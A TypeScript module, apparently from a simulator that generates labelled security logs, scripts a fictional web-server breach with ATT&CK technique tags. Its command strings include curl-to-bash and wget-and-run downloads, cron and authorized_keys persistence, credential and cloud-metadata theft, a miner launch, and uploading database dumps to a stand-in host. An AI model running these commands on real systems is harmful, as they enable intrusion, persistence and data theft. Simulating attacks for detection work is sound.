import { hour, minute, second } from '../calendar.ts';
import type { Estate } from '../estate.ts';
import type { LinuxHost, LinuxProcess } from '../linux/host.ts';
import { connectTo, cronJob, end, exec, runFor, sshLogin, sshSession, sudo, writeFile } from '../linux/records.ts';
import { Plot } from '../plot.ts';
import type { Random } from '../random.ts';
import { Chapter } from '../truth.ts';

const letters = 'abcdefghijklmnopqrstuvwxyz';

/** A hole in a web application leads to a server, a way to stay, keys, and the server behind it. */
export function plantServerBreach(estate: Estate, random: Random, midnight: number): void {
  const { sim, linux, company } = estate;
  const chapter = new Chapter('intrusion', 'server', 'Web application to database server');
  const plot = new Plot(sim, chapter, random, midnight + (8.5 + random.float() * 4.5) * hour);
  const [host, daemonName] = random.pick([
    [linux.web01, 'php-fpm'],
    [linux.web02, 'php-fpm'],
    [linux.app01, 'tomcat'],
  ] as const);
  const daemon = host.daemon(daemonName);
  const site = company.internet.newcomer(random);
  const server = random.pick(site.addresses);
  const drop = `${random.pick(['/tmp', '/var/tmp', '/dev/shm'])}/${random.chance(0.5) ? '.' : ''}${random.text(6, letters)}`;
  let implant: LinuxProcess | undefined;
  chapter.involve(daemon.user.name);
  const shellOut = (line: string, program: string, lasts = 3 * second): LinuxProcess => {
    const shell = runFor(sim, host, daemon, '/usr/bin/dash', ['sh', '-c', line], lasts, {
      directory: daemonName === 'tomcat' ? '/opt/tomcat' : '/srv/intranet/uploads',
    });
    return runFor(sim, host, shell, program, line.split(' | ')[0] ?? line, lasts);
  };
  plot.next(0, 1, () => {
    if (daemonName === 'php-fpm') {
      writeFile(sim, host, daemon, `/srv/intranet/uploads/${random.text(5, letters)}.php`);
      chapter.tell(`A script was uploaded to ${host.name} through the intranet's upload form.`, 'T1190', 'T1505.003');
    } else {
      chapter.tell(`A flaw in the portal on ${host.name} ran commands.`, 'T1190');
    }
    shellOut('id', '/usr/bin/id');
  });
  const looks = random.shuffled([
    ['uname -a', '/usr/bin/uname', 'T1082'],
    ['whoami', '/usr/bin/whoami', 'T1033'],
    ['cat /etc/passwd', '/usr/bin/cat', 'T1087.001'],
    ['ps aux', '/usr/bin/ps', 'T1057'],
    ['ip a', '/usr/bin/ip', 'T1016'],
    ['ls -la /home', '/usr/bin/ls', 'T1083'],
    ['cat /etc/os-release', '/usr/bin/cat', 'T1082'],
  ] as const);
  for (const [line, program, technique] of looks.slice(0, random.int(1, 4))) {
    plot.next(0.3, 4, () => {
      shellOut(line, program);
      chapter.tell(`Ran ${line}.`, technique);
    });
  }
  plot.next(1, 12, () => {
    implant = download(plot, host, daemon, site.domain, server, drop);
  });
  const calls = random.int(2, 7);
  for (let i = 0; i < calls; i++) {
    plot.next(2, 9, () => {
      if (implant !== undefined) connectTo(sim, host, implant, server, 443);
    });
  }
  plot.maybe(0.85, 1, 10, () => {
    if (implant !== undefined) stay(plot, host, implant, drop, site.domain);
  });
  plot.next(3, 15, () => {
    if (implant !== undefined) findSecrets(plot, host, implant);
  });
  if (random.chance(0.35)) {
    plot.next(2, 15, () => {
      if (implant === undefined) return;
      const name = random.pick(['kworkerd', 'systemd-net', 'dbus-update']);
      const miner = exec(
        sim,
        host,
        implant,
        `${drop}d`,
        `${drop}d -o ${site.domain}:443 --tls -k --coin ${random.pick(['monero', 'xmr'])} -a rx/0`,
      );
      connectTo(sim, host, miner, server, 443);
      chapter.tell(`It mined coins under the name ${name}.`, 'T1496');
    });
  }
  if (random.chance(0.75)) {
    const next = random.pick([linux.db01, linux.ci01, linux.app01].filter((one) => one !== host));
    plot.next(5, 30, () => {
      if (implant !== undefined) moveOn(estate, plot, host, implant, next, server);
    });
  }
  plot.maybe(0.3, 1, 10, () => {
    if (implant === undefined) return;
    runFor(sim, host, implant, '/usr/bin/rm', `rm -f ${drop} /tmp/out.txt`, second);
    chapter.tell('It removed its files.', 'T1070.004');
    end(sim, host, implant);
  });
}

function download(
  plot: Plot,
  host: LinuxHost,
  daemon: LinuxProcess,
  domain: string,
  server: string,
  drop: string,
): LinuxProcess {
  const { sim, random, chapter } = plot;
  const path = random.text(random.int(1, 6), letters);
  const way = random.pick(['pipe', 'curl', 'wget'] as const);
  if (way === 'pipe') {
    const line = `curl -fsSL http://${domain}/${path} | bash`;
    const shell = exec(sim, host, daemon, '/usr/bin/dash', ['sh', '-c', line]);
    connectTo(
      sim,
      host,
      runFor(sim, host, shell, '/usr/bin/curl', `curl -fsSL http://${domain}/${path}`, 4 * second),
      server,
      80,
    );
    const bash = exec(sim, host, shell, '/usr/bin/bash', 'bash');
    writeFile(sim, host, bash, drop);
    runFor(sim, host, bash, '/usr/bin/chmod', `chmod +x ${drop}`, second);
    chapter.tell('A script was piped from curl into bash.', 'T1059.004', 'T1105');
    return exec(sim, host, bash, drop, drop);
  }
  const line =
    way === 'curl' ? `curl -k -o ${drop} https://${domain}/${path}` : `wget -q -O ${drop} http://${domain}/${path}`;
  const shell = exec(sim, host, daemon, '/usr/bin/dash', ['sh', '-c', `${line}; chmod 755 ${drop}; ${drop} &`]);
  const fetcher = runFor(sim, host, shell, `/usr/bin/${way}`, line, 4 * second);
  connectTo(sim, host, fetcher, server, way === 'curl' ? 443 : 80);
  writeFile(sim, host, fetcher, drop);
  runFor(sim, host, shell, '/usr/bin/chmod', `chmod 755 ${drop}`, second);
  chapter.tell(`A program was fetched with ${way} and started.`, 'T1059.004', 'T1105', 'T1222.002');
  return exec(sim, host, shell, drop, drop);
}

function stay(plot: Plot, host: LinuxHost, implant: LinuxProcess, drop: string, domain: string): void {
  const { sim, random, chapter } = plot;
  const way = random.pick(['cron', 'key', 'rc'] as const);
  if (way === 'cron') {
    const command = random.chance(0.5) ? drop : `curl -fsSL http://${domain}/u | sh`;
    const line = `*/20 * * * * ${command}`;
    const shell = runFor(
      sim,
      host,
      implant,
      '/usr/bin/dash',
      ['sh', '-c', `(crontab -l; echo "${line}") | crontab -`],
      2 * second,
    );
    const editor = runFor(sim, host, shell, '/usr/bin/crontab', 'crontab -', second);
    writeFile(sim, host, editor, `/var/spool/cron/crontabs/${implant.user.name}`, 'modification');
    const user = implant.user;
    sim.after(20 * minute, () => cronJob(sim, host, user, command, 3 * second));
    chapter.tell('A cron entry brings it back.', 'T1053.003');
  } else if (way === 'key') {
    const home = implant.user.name === 'tomcat' ? '/opt/tomcat' : '/var/www';
    const shell = runFor(
      sim,
      host,
      implant,
      '/usr/bin/dash',
      [
        'sh',
        '-c',
        `mkdir -p ${home}/.ssh && echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${random.text(43, `${letters}ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789`)} >> ${home}/.ssh/authorized_keys`,
      ],
      2 * second,
    );
    writeFile(sim, host, shell, `${home}/.ssh/authorized_keys`, 'modification');
    chapter.tell('A key was added to authorized_keys.', 'T1098.004');
  } else {
    const shell = runFor(
      sim,
      host,
      implant,
      '/usr/bin/dash',
      ['sh', '-c', `echo '${drop} &' >> ~/.profile`],
      2 * second,
    );
    writeFile(sim, host, shell, '/var/www/.profile', 'modification');
    chapter.tell('A line in .profile brings it back.', 'T1546.004');
  }
}

function findSecrets(plot: Plot, host: LinuxHost, implant: LinuxProcess): void {
  const { sim, random, chapter } = plot;
  const lines = random.shuffled([
    ['/usr/bin/cat', 'cat /srv/portal/.env'],
    ['/usr/bin/cat', 'cat /opt/portal/conf/application.properties'],
    ['/usr/bin/find', 'find / -name id_rsa -o -name id_ed25519'],
    ['/usr/bin/grep', 'grep -rin password /srv /opt --include=*.conf --include=*.yml'],
    ['/usr/bin/cat', 'cat /home/deploy/.ssh/id_ed25519'],
    ['/usr/bin/cat', 'cat /home/deploy/.bash_history'],
    ['/usr/bin/curl', 'curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/'],
  ] as const);
  for (const [program, line] of lines.slice(0, random.int(2, 5))) {
    const process = runFor(sim, host, implant, program, line, 2 * second);
    if (program === '/usr/bin/curl') connectTo(sim, host, process, '169.254.169.254', 80);
    sim.pass(random.int(3, 60) * second);
  }
  chapter.tell('It searched for passwords and keys.', 'T1552.001', 'T1552.004');
}

/** With the deployment key to the next server: look, take, send. */
function moveOn(
  estate: Estate,
  plot: Plot,
  host: LinuxHost,
  implant: LinuxProcess,
  next: LinuxHost,
  server: string,
): void {
  const { sim, random, chapter } = plot;
  const client = runFor(
    sim,
    host,
    implant,
    '/usr/bin/ssh',
    `ssh -i /tmp/k -o StrictHostKeyChecking=no deploy@${next.name}`,
    15 * minute,
  );
  connectTo(sim, host, client, next.address, 22);
  if (random.chance(0.4)) sshLogin(sim, next, 'root', host.address, 'publickey', 'failure');
  const shell = sshSession(sim, next, { name: 'deploy', id: 1003 }, host.address, 20 * minute);
  chapter.involve('deploy');
  chapter.tell(`With the deployment key it went on to ${next.name}.`, 'T1021.004', 'T1078.003');
  sim.after(random.int(10, 90) * second, () => sudo(sim, next, shell, '/usr/bin/ls', 'ls -la /root', 2 * second));
  sim.after(random.int(2, 6) * minute, () => {
    const dump =
      next === estate.linux.db01
        ? (['/usr/bin/pg_dump', 'pg_dump -U postgres portal -f /tmp/p.sql'] as const)
        : (['/usr/bin/tar', 'tar czf /tmp/s.tgz /srv /etc /home'] as const);
    const process = runFor(sim, next, shell, dump[0], dump[1], 40 * second);
    writeFile(sim, next, process, dump[1].includes('p.sql') ? '/tmp/p.sql' : '/tmp/s.tgz');
    chapter.tell('It packed up data.', 'T1005', 'T1560.001');
  });
  sim.after(random.int(7, 14) * minute, () => {
    const process = runFor(
      sim,
      next,
      shell,
      '/usr/bin/curl',
      `curl -s -F f=@/tmp/${next === estate.linux.db01 ? 'p.sql' : 's.tgz'} https://${server}/up`,
      60 * second,
    );
    connectTo(sim, next, process, server, 443);
    chapter.tell('And sent it away.', 'T1048');
  });
}
